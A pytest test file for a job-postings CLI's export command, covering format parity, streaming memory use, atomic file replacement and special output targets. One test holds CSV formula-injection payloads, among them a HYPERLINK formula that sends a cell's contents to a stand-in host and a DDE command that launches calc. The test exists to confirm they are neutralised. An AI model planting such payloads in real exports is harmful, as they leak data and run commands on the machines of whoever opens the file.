"""`farm export`: the day's postings as CSV, JSON lines and Parquet, the same rows in each, on
SQLite and MariaDB; streamed, so memory does not grow with the number of postings; the file replaced
whole or not at all; CSV cells a spreadsheet would run neutralised, with a BOM unless told not to."""

import csv
import io
import json
import os
import signal
import stat
import subprocess
import sys
import time
import tracemalloc
from datetime import UTC, datetime, timedelta

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from sqlalchemy import insert, select

from farm.cli import farm
from farm.openings.stored import update_openings
from farm.report import export
from farm.state.clock import day_span
from farm.state.db import make_engine
from farm.state.models import JobPostingRow, OpeningPosting
from tests.migrated import migrated
from tests.report_data import DAY, TZ, fill

BOM = b"\xef\xbb\xbf"
INTS = ("id", "salary_min", "salary_max", "salary_months", "keyword_id", "opening_id")
TIMES = ("published_at", "first_seen_at", "last_seen_at")


def _expected(engine) -> list[dict]:
    span = day_span(DAY, TZ)
    T = JobPostingRow.__table__
    with engine.connect() as conn:
        rows = conn.execute(
            select(*(OpeningPosting.opening_id if name == "opening_id" else T.c[name] for name in export.COLUMNS))
            .select_from(T.outerjoin(OpeningPosting, OpeningPosting.posting_id == T.c.id))
            .where(T.c.first_seen_at < span.end, T.c.last_seen_at >= span.start)
            .order_by(T.c.id)
        )
        return [dict(row._mapping) for row in rows]


def _from_csv(data: bytes) -> list[dict]:
    assert data.startswith(BOM)
    rows = []
    for row in csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        row = {name: (None if value == "" else value) for name, value in row.items()}
        for name in INTS:
            row[name] = None if row[name] is None else int(row[name])
        for name in TIMES:
            row[name] = None if row[name] is None else datetime.fromisoformat(row[name])
        row["tags"] = None if row["tags"] is None else json.loads(row["tags"])
        rows.append(row)
    return rows


def _from_jsonl(data: bytes) -> list[dict]:
    rows = [json.loads(line) for line in data.decode("utf-8").splitlines()]
    for row in rows:
        for name in TIMES:
            row[name] = None if row[name] is None else datetime.fromisoformat(row[name])
    return rows


def _from_parquet(path) -> list[dict]:
    rows = pq.read_table(path).to_pylist()
    for row in rows:
        row["tags"] = None if row["tags"] is None else json.loads(row["tags"])
    return rows


def test_csv_jsonl_and_parquet_hold_the_same_rows_the_days_postings_with_salary_numbers(every_db_url, tmp_path):
    migrated(every_db_url)
    engine = make_engine(every_db_url)
    try:
        fill(engine)
        update_openings(engine)  # each posting's opening id is exported
        expected = _expected(engine)
    finally:
        engine.dispose()
    assert len(expected) > 50 and any(row["salary_min"] for row in expected)
    assert all(row["opening_id"] for row in expected)
    read = {
        "csv": lambda path: _from_csv(path.read_bytes()),
        "jsonl": lambda path: _from_jsonl(path.read_bytes()),
        "parquet": _from_parquet,
    }
    for fmt, reader in read.items():
        out = tmp_path / f"day.{fmt}"
        result = CliRunner().invoke(
            farm, ["--db-url", every_db_url, "export", "--date", str(DAY), "--format", fmt, "--out", str(out)]
        )
        assert result.exit_code == 0, result.output
        assert f"{len(expected)} postings seen on {DAY}" in result.output
        assert reader(out) == expected, fmt


def test_csv_goes_to_standard_output_with_dash(sqlite_url, tmp_path):
    migrated(sqlite_url)
    result = CliRunner().invoke(
        farm, ["--db-url", sqlite_url, "export", "--date", str(DAY), "--format", "csv", "--out", "-"]
    )
    assert result.exit_code == 0, result.output
    assert result.stdout_bytes.startswith(BOM)
    assert result.stdout.lstrip("\ufeff").splitlines()[0] == ",".join(export.COLUMNS)
    assert result.stderr.strip() == f"0 postings seen on {DAY} written to standard output"


def _many(engine, count: int) -> None:
    seen = datetime(2026, 12, 2, 4, tzinfo=UTC)
    rows = [
        {
            "source": "qcwy",
            "job_id": str(at),
            "title": "数据工程师 " * 8,
            "salary": "1.5-2.5万·13薪",
            "salary_min": 15000,
            "salary_max": 25000,
            "salary_months": 13,
            "salary_unit": "month",
            "company": "某科技有限公司",
            "city": "上海",
            "tags": ["Python", "Spark"],
            "url": f"https://x.invalid/{at}",
            "first_seen_at": seen - timedelta(days=at % 5),
            "last_seen_at": seen,
        }
        for at in range(count)
    ]
    with engine.begin() as conn:
        conn.execute(insert(JobPostingRow.__table__), rows)


def _peak(engine, fmt: str, path) -> int:
    tracemalloc.start()
    try:
        with open(path, "wb") as out:
            export.write(engine, out, DAY, TZ, fmt, chunk=100)
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_memory_stays_flat_however_many_postings(tmp_path, fmt):
    engines = {}
    try:
        for count in (500, 2000):
            url = f"sqlite:///{tmp_path / f'{count}.db'}"
            migrated(url)
            engines[count] = make_engine(url)
            _many(engines[count], count)
        _peak(engines[500], fmt, tmp_path / "warm")  # the first run compiles and caches: not what is measured
        peaks = {count: _peak(engine, fmt, tmp_path / f"{count}.{fmt}") for count, engine in engines.items()}
    finally:
        for engine in engines.values():
            engine.dispose()
    # four times the postings, not four times the memory: a chunk's worth either way
    assert peaks[2000] < peaks[500] * 1.3, peaks


YESTERDAY = b"yesterday's export, whole\n"


def _export(url: str, out, *args: str):
    return CliRunner().invoke(
        farm, ["--db-url", url, "export", "--date", str(DAY), "--format", "csv", "--out", str(out), *args]
    )


def test_an_export_that_fails_midway_keeps_the_previous_file_and_leaves_no_temporary_one(
    sqlite_url, tmp_path, monkeypatch
):
    migrated(sqlite_url)
    engine = make_engine(sqlite_url)
    try:
        _many(engine, 30)
    finally:
        engine.dispose()
    out = tmp_path / "postings.csv"
    out.write_bytes(YESTERDAY)
    read = export.day_postings

    def lost_midway(*args, **kwargs):
        chunks = read(*args, **kwargs)
        yield next(chunks)
        raise OSError(5, "Input/output error")  # the database's disk failing after the first chunk

    monkeypatch.setattr(export, "day_postings", lost_midway)
    result = _export(sqlite_url, out)
    assert result.exit_code == 1
    assert "cannot write" in result.output and "Input/output error" in result.output
    assert out.read_bytes() == YESTERDAY
    assert _temporary(tmp_path, out.name) is None


def _temporary(folder, name: str):
    found = [path for path in folder.iterdir() if path.name != name and path.name.startswith(f".{name}.")]
    return found[0] if found else None


def test_an_export_killed_mid_write_leaves_yesterdays_file_intact(tmp_path):
    url = f"sqlite:///{tmp_path / 'farm.db'}"
    migrated(url)
    engine = make_engine(url)
    try:
        _many(engine, 50_000)  # some 16 MB of CSV: written over a good part of a second
    finally:
        engine.dispose()
    folder = tmp_path / "out"
    folder.mkdir()
    out = folder / "postings.csv"
    out.write_bytes(YESTERDAY)
    command = [sys.executable, "-m", "farm", "--db-url", url, "export", "--date", str(DAY), "--format", "csv"]
    process = subprocess.Popen([*command, "--out", str(out)], stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    try:
        deadline = time.monotonic() + 60
        sizes = []
        while time.monotonic() < deadline and process.poll() is None:
            temporary = _temporary(folder, out.name)
            size = temporary.stat().st_size if temporary else 0
            if size and sizes and size > sizes[-1]:
                os.kill(process.pid, signal.SIGKILL)  # the temporary file exists and grows
                break
            if size:
                sizes.append(size)
        process.wait(timeout=30)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
    assert process.returncode == -signal.SIGKILL, (process.returncode, process.stdout.read())
    assert out.read_bytes() == YESTERDAY
    left = _temporary(folder, out.name)
    assert left is not None and left.stat().st_size > sizes[0]  # killed mid-write, its part left aside
    # the next run replaces the file whole
    finished = subprocess.run([*command, "--out", str(out)], capture_output=True, timeout=120)
    assert finished.returncode == 0, finished.stdout + finished.stderr
    assert out.read_bytes().startswith(BOM + b"id,source,job_id") and out.stat().st_size > left.stat().st_size


HOSTILE = {
    "title": '=HYPERLINK("http://x.invalid/?"&A1,"详情")',
    "company": "+cmd|' /C calc'!A0",
    "salary": "-2+3",
    "area": "@SUM(1+1)",
    "experience": "\t=1+1",
    "degree": "\r=1+1",
    "city": "上海=1",
}


def test_csv_cells_a_spreadsheet_would_run_as_a_formula_begin_with_a_quote(sqlite_url, tmp_path):
    migrated(sqlite_url)
    engine = make_engine(sqlite_url)
    try:
        _many(engine, 1)
        with engine.begin() as conn:
            conn.execute(JobPostingRow.__table__.update().values(HOSTILE))
    finally:
        engine.dispose()
    out = tmp_path / "day.csv"
    assert _export(sqlite_url, out).exit_code == 0
    (row,) = csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline=""))
    expected = {name: value if name == "city" else "'" + value for name, value in HOSTILE.items()}
    assert {name: row[name] for name in HOSTILE} == expected
    jsonl = tmp_path / "day.jsonl"
    result = CliRunner().invoke(
        farm, ["--db-url", sqlite_url, "export", "--date", str(DAY), "--format", "jsonl", "--out", str(jsonl)]
    )
    assert result.exit_code == 0, result.output
    (line,) = jsonl.read_text(encoding="utf-8").splitlines()
    assert {name: json.loads(line)[name] for name in HOSTILE} == HOSTILE  # data formats keep the text as it is


def test_csv_has_a_utf8_bom_unless_told_no_bom(sqlite_url, tmp_path):
    migrated(sqlite_url)
    engine = make_engine(sqlite_url)
    try:
        _many(engine, 3)
    finally:
        engine.dispose()
    with_bom, without = tmp_path / "with.csv", tmp_path / "without.csv"
    assert _export(sqlite_url, with_bom).exit_code == 0
    result = _export(sqlite_url, without, "--no-bom")
    assert result.exit_code == 0, result.output
    assert with_bom.read_bytes() == BOM + without.read_bytes()
    assert without.read_bytes().startswith(b"id,source,") and "某科技有限公司" in without.read_text(encoding="utf-8")


def _filled(tmp_path, count=30) -> str:
    url = f"sqlite:///{tmp_path / 'farm.db'}"
    migrated(url)
    engine = make_engine(url)
    try:
        _many(engine, count)
    finally:
        engine.dispose()
    return url


def _farm_export(url, fmt, *args, **popen):
    command = [sys.executable, "-m", "farm", "--db-url", url, "export", "--date", str(DAY), "--format", fmt, *args]
    streams = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE, **popen}
    return subprocess.run(command, timeout=120, **streams)


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_an_export_to_dev_stdout_is_written_to_the_pipe_it_is(tmp_path, fmt):
    url = _filled(tmp_path)
    done = _farm_export(url, fmt, "-o", "/dev/stdout")
    assert done.returncode == 0, done.stderr
    assert done.stderr.decode().strip() == f"30 postings seen on {DAY} written to /dev/stdout"
    (tmp_path / "piped").write_bytes(done.stdout)
    read = {"csv": lambda p: _from_csv(p.read_bytes()), "jsonl": lambda p: _from_jsonl(p.read_bytes())}
    rows = read.get(fmt, _from_parquet)(tmp_path / "piped")
    assert len(rows) == 30 and {row["company"] for row in rows} == {"某科技有限公司"}


def test_an_export_to_dev_stdout_redirected_to_a_file_appends_as_the_shell_asked(tmp_path):
    url = _filled(tmp_path)
    out = tmp_path / "log.csv"
    out.write_bytes(b"kept\n")
    with open(out, "ab") as appended:
        done = _farm_export(url, "csv", "--no-bom", "-o", "/dev/stdout", stdout=appended)
    assert done.returncode == 0, done.stderr
    assert out.read_bytes().startswith(b"kept\nid,source,job_id") and len(out.read_bytes().splitlines()) == 32


def test_an_export_to_a_full_device_says_so_in_one_line_and_leaves_the_device_alone(tmp_path):
    url = _filled(tmp_path)
    before = os.stat("/dev/full")
    done = _farm_export(url, "csv", "--out", "/dev/full")
    assert done.returncode == 1
    assert done.stderr.decode().splitlines() == ["Error: cannot write /dev/full: No space left on device"]
    after = os.stat("/dev/full")
    assert stat.S_ISCHR(after.st_mode) and (after.st_ino, after.st_rdev) == (before.st_ino, before.st_rdev)
    assert not [name for name in os.listdir("/dev") if name.startswith(".full.")]


def test_an_export_through_a_symlink_replaces_its_target_and_keeps_the_link(tmp_path):
    url = _filled(tmp_path)
    target = tmp_path / "data" / "postings.csv"
    target.parent.mkdir()
    target.write_bytes(YESTERDAY)
    target.chmod(0o640)
    link = tmp_path / "latest.csv"
    link.symlink_to(target)
    done = _farm_export(url, "csv", "--out", str(link))
    assert done.returncode == 0, done.stderr
    assert link.is_symlink() and link.readlink() == target
    assert target.read_bytes().startswith(BOM + b"id,source,job_id") and len(target.read_bytes().splitlines()) == 31
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert done.stdout.decode().strip() == f"30 postings seen on {DAY} written to {target}"


def test_an_export_to_a_fifo_writes_into_it(tmp_path):
    url = _filled(tmp_path)
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    reader = subprocess.Popen(["cat", str(fifo)], stdout=subprocess.PIPE)
    try:
        done = _farm_export(url, "jsonl", "--out", str(fifo))
        data, _ = reader.communicate(timeout=30)
    finally:
        if reader.poll() is None:
            reader.kill()
            reader.wait()
    assert done.returncode == 0, done.stderr
    assert len(_from_jsonl(data)) == 30 and stat.S_ISFIFO(fifo.stat().st_mode)
